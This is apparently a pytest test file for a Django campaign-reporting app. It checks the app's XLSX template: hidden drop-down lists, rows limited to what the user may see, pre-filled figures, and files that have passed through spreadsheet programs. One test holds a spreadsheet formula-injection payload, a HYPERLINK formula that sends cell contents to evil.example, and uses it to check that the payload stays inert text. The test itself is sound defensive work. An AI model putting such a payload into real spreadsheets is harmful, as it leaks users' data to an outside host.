"""The XLSX template: drop-downs from a hidden list sheet, scoped to the user, pre-filled."""

import datetime
import io
import re
from pathlib import Path

import pytest
from openpyxl import load_workbook

from campaigns.reach.models import ImportStatus, ReachReport, Status
from campaigns.reach.spreadsheet.columns import layout
from campaigns.reach.spreadsheet.importer import import_file
from campaigns.reach.spreadsheet.template import build_template
from tests.factories import OrganisationFactory, reach_report

from .conftest import MARCH, TODAY
from .spreadsheet_files import COLUMNS

pytestmark = pytest.mark.django_db

JANUARY, DECEMBER = datetime.date(2026, 1, 1), datetime.date(2026, 12, 1)


def template(w, user, start=JANUARY, end=DECEMBER):
    content = build_template(w.sn_campaign, user, start, end, today=TODAY)
    return load_workbook(io.BytesIO(content)), content


def lists(workbook) -> dict[str, list]:
    sheet = workbook["Lists"]
    found = {}
    for column in sheet.iter_cols(values_only=True):
        found[column[0]] = [value for value in column[1:] if value is not None]
    return found


def validations(sheet) -> dict[str, str]:
    """Column header -> the list formula of its drop-down."""
    headers = {cell.column_letter: cell.value for cell in sheet[1]}
    found = {}
    for validation in sheet.data_validations.dataValidation:
        for cell_range in validation.sqref.ranges:
            found[headers[cell_range.coord.split(":")[0].rstrip("0123456789")]] = (
                validation.formula1
            )
    return found


def test_the_sheets_columns_and_drop_downs(world):
    workbook, _content = template(world, world.sn_reporter)
    assert workbook.sheetnames == ["Reach", "Lists", "Instructions"]
    assert workbook["Lists"].sheet_state == "hidden"
    sheet = workbook["Reach"]
    assert [cell.value for cell in sheet[1]] == COLUMNS
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["H"].width >= 30
    dropdowns = validations(sheet)
    for column in ("Campaign", "Organisation", "Month", "Region", "Channel", "Material",
                   "Language", "Indicator", "Data source", "Verification"):  # fmt: skip
        assert dropdowns[column].startswith("Lists!$"), column
    assert "Total" not in dropdowns


def test_the_lists_are_the_campaigns_and_the_users(world):
    OrganisationFactory(name="Radio Dakar FM", countries=[world.senegal])
    workbook, _content = template(world, world.sn_reporter)
    found = lists(workbook)
    assert found["Campaign"] == [world.sn_campaign.code]
    assert found["Organisation"] == ["IOM Senegal"]
    # Past months only: June (TODAY's month) is still running and the rules refuse it.
    assert found["Month"] == ["2026-01", "2026-02", "2026-03", "2026-04", "2026-05"]
    assert found["Region"] == ["SN-DK · Dakar", "SN-TH · Thiès"]
    assert found["Channel"] == ["radio · Radio", "sessions · Community sessions"]
    assert found["Material"] == [f"{world.poster.uuid} · {world.poster.title}"]
    assert found["Language"] == ["fr", "wo", "ff"]
    assert [item.split(" · ")[0] for item in found["Indicator"]] == [
        "broadcasts",
        "people-reached",
    ]
    assert "attendance" in found["Data source"] and "none" in found["Verification"]
    me_lists = lists(template(world, world.me_officer)[0])
    assert me_lists["Organisation"] == ["IOM Senegal", "Radio Dakar FM"]


def test_the_instructions_list_the_indicators_and_their_columns(world):
    workbook, _content = template(world, world.sn_reporter)
    rows = {row[0]: row for row in workbook["Instructions"].iter_rows(values_only=True) if row}
    assert "Female 15-24" in rows["people-reached"][4]
    assert rows["broadcasts"][4] == "none (total only)"
    assert any("left blank on its later rows" in str(first) for first in rows)  # as above


def test_visible_figures_are_pre_filled_and_round_trip_unchanged(world):
    reach_report(world.sn_campaign, world.iom_senegal, world.dakar, world.radio, MARCH,
                 {world.people: (30, [("female", world.youth, 20), ("male", world.adults, 10)]),
                  world.broadcasts: 4}, data_source="attendance")  # fmt: skip
    radio_guinea_in_senegal = OrganisationFactory(name="Other NGO", countries=[world.senegal])
    reach_report(world.sn_campaign, radio_guinea_in_senegal, world.thies, world.radio, MARCH,
                 {world.broadcasts: 9})  # fmt: skip
    workbook, content = template(world, world.sn_reporter)
    rows = [row for row in workbook["Reach"].iter_rows(min_row=2, values_only=True) if row[1]]
    assert len(rows) == 2  # the other organisation's report is not the reporter's to see
    by_indicator = {row[COLUMNS.index("Indicator")].split(" · ")[0]: row for row in rows}
    people = by_indicator["people-reached"]
    assert people[COLUMNS.index("Total")] == 30
    assert people[COLUMNS.index("Female 15-24")] == 20 and people[COLUMNS.index("Male 25+")] == 10
    assert people[COLUMNS.index("Month")] == "2026-03"
    assert people[COLUMNS.index("Region")] == "SN-DK · Dakar"
    record = import_file(world.sn_reporter, io.BytesIO(content), "template.xlsx", today=TODAY)
    assert record.status == ImportStatus.IMPORTED, record.problems
    assert (record.reports_unchanged, record.reports_created) == (1, 0)


def test_a_period_outside_the_campaign_has_no_months_and_no_rows(world):
    reach_report(world.sn_campaign, world.iom_senegal, world.dakar, world.radio, MARCH,
                 {world.broadcasts: 4}, status=Status.SUBMITTED)  # fmt: skip
    workbook, _content = template(world, world.sn_reporter, datetime.date(2025, 1, 1),
                                  datetime.date(2025, 12, 1))  # fmt: skip
    assert lists(workbook)["Month"] == []
    assert [row[1] for row in workbook["Reach"].iter_rows(min_row=2, values_only=True)
            if row[1]] == []  # fmt: skip


def test_text_people_typed_is_never_a_live_formula_in_the_template(world):
    """An organisation's name or a report's notes starting with ``=`` stay text (issue 10, 10)."""
    formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    hostile = OrganisationFactory(name=formula, countries=[world.senegal])
    hostile.members.add(world.sn_reporter)
    reach_report(world.sn_campaign, world.iom_senegal, world.dakar, world.radio, MARCH,
                 {world.broadcasts: 4}, notes=formula)  # fmt: skip
    world.people.name_en = "=1+1"  # an M&E officer's indicator name and definition: Instructions
    world.people.definition_en = formula
    world.people.save()
    _workbook, content = template(world, world.sn_reporter)
    workbook = load_workbook(io.BytesIO(content))
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert any(cell.value == formula for cell in cells)  # the text is there...
    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]  # ...never a formula


# --- through a spreadsheet program (issue 12, item 5) ---------------------------------------

ROUND_TRIP = Path(__file__).parent / "fixtures" / "round-trip"  # see its README.md
# What LibreOffice and Gnumeric read as a number or a date when they open a CSV cell.
NOT_TEXT = re.compile(r"^[+-]?\d+([.,]\d+)?\s*[+%-]?$|^\d{1,4}[-/.]\d{1,2}([-/.]\d{1,4})?$")


def test_every_header_of_the_template_stays_text_in_a_spreadsheet_program(world):
    workbook, _content = template(world, world.sn_reporter)
    headers = [cell.value for cell in workbook["Reach"][1]]
    assert "Age 25+" in headers and "Age 15-24" in headers
    assert [header for header in headers if NOT_TEXT.match(header)] == []
    # What Gnumeric made of the template through CSV: every header still text, as written.
    passed = load_workbook(ROUND_TRIP / "new-template-gnumeric.xlsx").active
    assert [cell.value for cell in passed[1]] == COLUMNS


def test_older_headers_and_what_programs_made_of_them_are_read_where_unambiguous():
    sheet = layout([("15-24", "15-24"), ("25plus", "25+"), ("35", "35-44")])
    assert sheet.column_for("25+") == sheet.column_for(" AGE 25+ ") == "Age 25+"
    assert sheet.column_for(25) == sheet.column_for(25.0) == sheet.column_for("25") == "Age 25+"
    assert sheet.column_for("15-24") == "Age 15-24" and sheet.column_for("25plus") == "Age 25+"
    assert sheet.column_for(35) == "Age 35-44"  # the code 35, not "35+" read as a number
    assert sheet.column_for(15) is None and sheet.column_for("Female 25") is None
    both = layout([("25a", "25+"), ("25b", "25 +")])  # two bands a program would make 25 of
    assert both.column_for(25) is None


@pytest.mark.parametrize(
    "name",
    ["old-template-libreoffice.xlsx", "old-template-gnumeric.csv", "new-template-gnumeric.xlsx"],
)
def test_a_template_that_passed_through_a_spreadsheet_program_imports(world, name):
    """Real files (README.md): the template's pre-filled March report, its "25+" header read
    as 25 by LibreOffice and Gnumeric, the month as 2026/03/01 by Gnumeric."""
    assert world.sn_campaign.code == "sn-desert"
    content = (ROUND_TRIP / name).read_bytes()
    record = import_file(world.sn_reporter, io.BytesIO(content), name, today=TODAY)
    assert record.status == ImportStatus.IMPORTED, record.problems
    assert (record.rows, record.reports_created) == (2, 1)
    report = ReachReport.objects.get()
    assert (report.month, report.region_id, report.notes) == (MARCH, world.dakar.pk, "Some notes")
    assert dict(report.values.values_list("indicator__code", "total")) == {
        "broadcasts": 4,
        "people-reached": 30,
    }
